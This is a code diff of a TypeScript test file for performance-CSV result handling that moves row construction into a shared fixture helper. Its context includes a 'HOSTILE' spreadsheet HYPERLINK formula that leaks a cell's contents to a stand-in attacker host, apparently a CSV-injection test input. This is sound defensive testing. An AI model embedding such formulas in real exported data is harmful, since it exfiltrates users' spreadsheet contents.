@@ -18,9 +18,10 @@ import {
   readPerfCsvText,
 } from '../../../src/results/csv.js';
 import { samplesFromCsv } from '../../../src/results/compare-inputs.js';
-import { PERF_CSV_COLUMNS, perfRowsFor, type PerfRow } from '../../../src/results/perf-rows.js';
+import { PERF_CSV_COLUMNS, type PerfRow } from '../../../src/results/perf-rows.js';
 import { testsFromCsvText } from '../../../src/report/from-csv.js';
 import { fixturePath } from '../../fixtures/paths.js';
+import { jobPerfRows } from '../../fixtures/perf-rows.js';
 
 const REAL_CSV = fixturePath('trtllm/perf_script_test_results.csv');
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
@@ -32,21 +33,11 @@ beforeEach(() => {
 afterEach(() => fs.rmSync(out, { recursive: true, force: true }));
 
 const rows = (concurrency: number, metricNames = ['median_ttft_ms', 'median_e2el_ms']): PerfRow[] =>
-  perfRowsFor({
-    testId: 'disagg_perf_m_1k1k_x',
-    category: 'perf',
-    testType: 'disagg',
-    blocks: [
-      {
-        concurrency,
-        completed: true,
-        warmup: false,
-        metrics: Object.fromEntries(metricNames.map((m, i) => [m, concurrency + i])),
-      },
-    ],
-    metricNames,
-    config: { metadata: { model_name: 'm', precision: 'fp8' } },
-  });
+  jobPerfRows(
+    'disagg_perf_m_1k1k_x',
+    concurrency,
+    Object.fromEntries(metricNames.map((m, i) => [m, concurrency + i])),
+  );
 
 async function disagg(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
   let stdout = '';
